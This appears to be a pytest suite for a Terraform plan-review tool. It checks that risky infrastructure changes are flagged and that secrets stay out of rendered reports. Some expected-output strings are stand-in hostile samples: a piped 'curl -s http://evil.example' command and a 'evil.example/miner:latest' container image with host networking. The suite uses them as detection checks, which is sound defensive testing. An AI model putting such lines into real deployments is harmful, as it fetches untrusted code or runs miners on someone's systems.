"""Plans of any team, of any provider: what a person has to decide on is found, and nothing false blocks."""

import json
from pathlib import Path
from typing import Any

import pytest

from plan_review.expectation import deviations, expected_changes
from plan_review.plan_reader import read
from plan_review.render import html, markdown
from plan_review.render import json as document
from plan_review.review import Review, ReviewStatus, review
from plan_review.settings import ReviewSettings
from tests.plan_review.test_acknowledge import TODAY

PLANS = Path(__file__).parent / "anybodys"
BLOCKED, CHANGES, NOTHING = ReviewStatus.BLOCKED, ReviewStatus.CHANGES, ReviewStatus.NOTHING_CHANGES


def text(name: str) -> str:
    return (PLANS / f"{name}.json").read_text()


def comment(of: Review) -> str:
    return markdown.render(of, budget=65_536, whole="")


def reviewed(name: str) -> Review:
    return review([read(text(name), stack="s")], ReviewSettings(), TODAY)


@pytest.mark.parametrize(
    ("name", "status", "rules"),
    [
        ("actions", CHANGES, {"plan.invokes"}),
        ("cloudflare_dns", CHANGES, {"outage.dns"}),
        (
            "cloudfront_off",
            CHANGES,
            {"exposure.firewall-off", "outage.switched-off", "outage.origin", "encryption.old-tls"},
        ),
        ("drift_db_public", NOTHING, {"exposure.database", "protection.off"}),
        ("ecs_unknown", CHANGES, set()),
        ("eks_default_open", CHANGES, {"exposure.cluster"}),
        ("foreign_account", CHANGES, {"access.other-account"}),
        ("google_policy_unknown", BLOCKED, {"access.unknown", "access.unknown-new", "unknown.created"}),
        (
            "iam_other",
            BLOCKED,
            {
                *("access.administrator", "access.everything", "access.public", "access.long-lived-key"),
                *("exposure.acl", "exposure.repository", "logging.removed", "protection.removed"),
            },
        ),
        ("irsa_first_apply", CHANGES, {"access.unknown-new"}),
        ("k8s_secret_min", CHANGES, set()),
        (
            "only_createforget_and_delete",
            BLOCKED,
            {"state.replaced", "state.forgotten"},
        ),
        ("provisioner", CHANGES, {"plan.provisions", "plan.reads"}),
        ("role_swap", BLOCKED, {"access.role-exchanged", "access.everything"}),
        ("unknown_types_destroyed", BLOCKED, {"state.destroyed", "state.many-destroyed"}),
    ],
)
def test_what_a_person_has_to_decide_on_is_found(name: str, status: ReviewStatus, rules: set[str]) -> None:
    found = reviewed(name)
    assert {finding.rule for finding in found.findings} >= rules
    assert found.status is status
    assert "access.federated-anyone" not in {finding.rule for finding in found.findings}


@pytest.mark.parametrize("name", ["pass_env", "names", "k8s_secret_min"])
def test_no_secret_of_theirs_is_shown(name: str) -> None:
    shown = {"LICENSE", "license", "KEY", "key", "DATABASE_URL", "database_url", "WEBHOOK_URL", "webhook_url"}
    shown |= {"OAUTH_CLIENT", "oauth_client"}
    content: Any = json.loads(text(name))
    values = {
        value
        for resource in content["resource_changes"]
        for key, value in _texts(resource["change"]["after"])
        if key not in (shown if name == "names" else set()) | {"function_name", "name", "kind", "apiVersion"}
        and len(value) < 40
    }
    assert values
    found = reviewed(name)
    written = comment(found) + html.render(found) + document.render(found)
    assert {value for value in values if value in written} == set()


def _texts(value: Any, key: str = "") -> Any:  # noqa: ANN401 - JSON
    if isinstance(value, dict):
        for name, member in value.items():
            yield from _texts(member, name)
    elif isinstance(value, list):
        for member in value:
            yield from _texts(member, key)
    elif isinstance(value, str):
        yield key, value


@pytest.mark.parametrize("name", ["actions", "provisioner"])
def test_what_would_run_otherwise_is_not_what_was_reviewed(name: str) -> None:
    kept = json.loads(json.dumps(expected_changes([read(text(name), stack="s")])))
    assert deviations(kept, [read(text(name), stack="s")]) == ()
    assert deviations(kept, [read(text(f"{name}_b"), stack="s")]) != ()


def test_the_headline_the_folds_and_the_document_count_the_same() -> None:
    found = reviewed("only_createforget_and_delete")
    assert "1 to add, 1 to destroy, 1 to forget" in found.verdict
    assert "<code>s</code>: 1 to add, 1 to destroy, 1 to forget" in markdown.render(
        found, budget=65_536, whole=""
    )
    counts = json.loads(document.render(found))["stacks"][0]["counts"]
    assert {name: number for name, number in counts.items() if number} == {
        "added": 1,
        "destroyed": 1,
        "forgotten": 1,
    }


@pytest.mark.parametrize("form", ["md", "html", "json"])
def test_what_becomes_unknown_is_named_with_what_it_was(form: str) -> None:
    found = reviewed("ecs_unknown")
    written = {
        "md": lambda: comment(found),
        "html": lambda: html.render(found),
    }
    told = written.get(form, lambda: document.render(found))()
    assert "task_definition" in told
    assert "task-definition/app:41" in told
    assert "known after apply" in told or "$unknown" in told


def test_drift_alone_says_so_and_blocks_only_where_the_settings_say() -> None:
    found = reviewed("drift_db_public")
    assert found.verdict == "Nothing to apply in 1 stack, drift found"
    written = json.loads(document.render(found))
    assert written["findings"] == []
    assert {drift_finding["rule"] for drift_finding in written["drift_findings"]} == {
        "exposure.database",
        "protection.off",
    }
    assert "exposure.database" in comment(found)
    strict = ReviewSettings({"exposure.database": next(iter(type(found.findings[0].severity)))})
    assert review([read(text("drift_db_public"), stack="s")], strict, TODAY).status is BLOCKED


def test_what_no_rule_knows_is_counted_in_every_format() -> None:
    content = json.loads(text("unknown_types_destroyed"))
    for number, resource in enumerate(content["resource_changes"]):
        resource.update(type="acme_thing", address=f"acme_thing.t{number}")
    found = review([read(json.dumps(content), stack="s")], ReviewSettings(), TODAY)
    count = len(content["resource_changes"])
    said = f"{count} changed resources are of types that no rule covers: acme"
    assert said in comment(found).replace("\\", "")
    assert said in html.render(found)
    assert json.loads(document.render(found))["unjudged_types"] == {"acme_thing": count}


def test_each_provisioner_that_terraform_itself_wrote_down_is_told_with_its_text() -> None:
    found = [
        each for each in reviewed("provisioners_of_terraform").findings if each.rule == "plan.provisions"
    ]
    shown = [
        {".".join(map(str, change.path)): change.after for change in finding.changes} for finding in found
    ]
    assert shown == [
        {"runs.command": "make up"},
        {"runs.command": "make down"},
        {"runs.command": "${var.cmd}", "runs.var.cmd": "echo hi"},
    ]


def destroyed(number: int) -> str:
    """Buckets that one plan destroys, and one firewall that it opens to the world."""
    changes = [
        {
            "address": f"aws_s3_bucket.b{n}",
            "mode": "managed",
            "type": "aws_s3_bucket",
            "name": f"b{n}",
            "change": {"actions": ["delete"], "before": {"bucket": f"prod-{n}", "force_destroy": True}},
        }
        for n in range(number)
    ]
    rule = {
        "type": "ingress",
        "cidr_blocks": ["0.0.0.0/0"],
        "from_port": 22,
        "to_port": 22,
        "protocol": "tcp",
    }
    opened = {
        "address": "aws_security_group_rule.z",
        "mode": "managed",
        "type": "aws_security_group_rule",
        "name": "z",
        "change": {"actions": ["create"], "before": None, "after": rule},
    }
    return json.dumps({"format_version": "1.2", "planned_values": {}, "resource_changes": [*changes, opened]})


@pytest.mark.parametrize("number", [400, 3_000])
def test_many_findings_of_one_rule_leave_room_for_the_only_one_of_another(number: int) -> None:
    written = comment(review([read(destroyed(number), stack="s")], ReviewSettings(), TODAY))
    assert len(written) <= 65_536
    assert "`aws_security_group_rule.z` in `s`" in written
    assert "exposure.administration" in written
    assert f"({number} resources)" in written.replace(",", "")
    assert ("Shortened" in written) is (number > 400)
    if number == 400:
        assert all(f"`aws_s3_bucket.b{n}` in `s`" in written for n in range(number))


@pytest.mark.parametrize(
    ("name", "said", "not_said"),
    [
        (
            "text_change",
            ["| curl -s http://evil.example", "| replicas: 0", "decoded from base64"],
            ["IyEvYm"],
        ),
        (
            "nested_created",
            ['["c"].image = evil.example/miner:latest', "host_network = true", "ingress[0].from_port = 22"],
            ["null", "ipv6_cidr_blocks"],
        ),
        (
            "checks",
            ["Check health fails: Website returned 500", "Postcondition: certificate expires in 3 days"],
            [],
        ),
        ("import_id", ["imported with the id somebody-elses"], []),
        ("tainted", ["because it is marked as tainted"], []),
        (
            "env",
            ['environment["FEATURE_X"].value = on', 'environment["URL"].value = https://b', "forced by"],
            ["environment[1]"],
        ),
        ("force_destroy", ["Leave it off."], ["Leave it on"]),
        ("pab4", ["block_public_acls = false, block_public_policy = false, ignore_public"], ["4 resources"]),
        ("wrapper", ["x_y.a: changed in place"], []),
    ],
)
def test_a_case_reads_as_a_person_needs_it(name: str, said: list[str], not_said: list[str]) -> None:
    written = comment(reviewed(name)).replace("&#95;", "_").replace("\u2060", "").split("### Picture")[0]
    assert [each for each in said if each not in written] == []
    assert [each for each in not_said if each in written] == []
    assert written.count("*Why it matters:*") <= 1
